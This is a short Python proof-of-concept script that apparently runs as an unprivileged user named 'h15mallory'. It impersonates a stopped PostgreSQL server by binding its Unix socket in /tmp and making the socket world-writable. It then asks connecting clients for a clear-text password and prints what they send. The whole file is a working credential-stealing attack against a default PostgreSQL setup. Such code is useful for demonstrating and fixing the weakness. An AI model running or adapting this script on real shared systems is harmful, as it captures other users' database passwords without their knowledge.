"""Run as h15mallory: listen on /tmp/.s.PGSQL.5999, the Unix socket of a PostgreSQL server that
uses /tmp as its socket directory (upstream's default) while that server is stopped, ask the
client for a clear-text password, and print what it sends."""

import os
import socket
import struct

path = "/tmp/.s.PGSQL.5999"
with socket.socket(socket.AF_UNIX) as server:
    server.bind(path)
    os.chmod(path, 0o777)
    server.listen()
    server.settimeout(60)
    try:
        connection, _ = server.accept()
        with connection:
            length = struct.unpack("!I", connection.recv(4))[0]
            startup = connection.recv(length - 4)
            print("startup:", startup[4:].split(b"\0"))
            connection.sendall(b"R" + struct.pack("!II", 8, 3))  # AuthenticationCleartextPassword
            reply = connection.recv(1024)
            print("password message:", reply)
    finally:
        os.unlink(path)
